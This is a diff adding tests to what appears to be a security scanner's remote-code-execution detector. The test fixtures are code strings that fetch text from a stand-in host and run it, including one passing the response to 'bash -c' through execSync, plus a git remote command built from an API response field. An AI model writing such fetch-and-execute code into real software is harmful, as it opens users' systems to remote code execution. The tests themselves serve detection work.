@@ -56,6 +56,20 @@ describe("remote-code-execution", () => {
     ]);
   });
 
+  it("a response's field in the arguments of a fixed program is high, not critical (@heroku/mcp-server git remote add)", () => {
+    const code = `import { execSync } from "node:child_process";
+      export async function deploy(name, root) { const app = await (await fetch(\`https://api.heroku.com/apps/\${name}\`)).json();
+        execSync(\`git remote add heroku-\${name} \${app.git_url}\`, { cwd: root }); }`;
+    const fs = findings(h, evidenceWithCode({ "dist/deploy.js": code }));
+    expect(fs.map((f) => [f.severity, f.blocking ?? false])).toEqual([["high", false]]);
+  });
+
+  it("a response given to bash -c is still a command run", () => {
+    const code = `import { execSync } from "node:child_process";
+      const r = await (await fetch("https://x.example/next")).text(); execSync(\`bash -c "\${r}"\`);`;
+    expect(findings(h, evidenceWithCode({ "i.js": code })).map((f) => f.severity)).toEqual(["critical"]);
+  });
+
   it("a response put unquoted after an opener's name is still a command run", () => {
     const code = `import { exec } from "node:child_process";
       const body = await (await fetch("https://cdn.example/next")).text(); exec(\`open \${body}\`);`;
